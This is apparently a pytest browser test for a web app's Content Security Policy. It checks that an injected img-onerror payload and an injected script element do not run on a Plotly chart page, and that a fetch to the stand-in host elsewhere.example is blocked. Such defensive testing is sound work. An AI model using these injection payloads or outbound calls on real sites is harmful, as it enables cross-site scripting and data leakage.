"""What slips into a page as HTML runs nothing, and says nothing to anybody outside."""

import pytest

pytestmark = pytest.mark.browser
SLIPPED_IN = """() => {
    const inside = document.querySelector("[data-testid=stMain]");
    inside.insertAdjacentHTML("beforeend", '<img src="x:" onerror="window.slipped = 1">');
    const script = document.createElement("script");
    script.textContent = "window.slipped = 2";
    inside.append(script);
}"""
TELLS = "fetch('https://elsewhere.example/?case=1').then(() => 'told', () => 'kept')"


def test_a_script_that_slipped_in_does_not_run_and_nothing_is_told(enter):
    boss = enter("supervisor.tripoli")
    boss.open("/disembarkations")  # with charts of Plotly's
    boss.page.wait_for_selector(".js-plotly-plot .main-svg")
    assert boss.complaints == []
    boss.comes_to("window.marsaLinks", True)
    boss.page.evaluate(SLIPPED_IN)
    assert boss.page.evaluate(TELLS) == "kept"
    boss.page.wait_for_timeout(300)
    assert boss.page.evaluate("window.slipped") is None
    assert len([said for said in boss.complaints if "Content Security Policy" in said]) >= 2
    boss.complaints.clear()
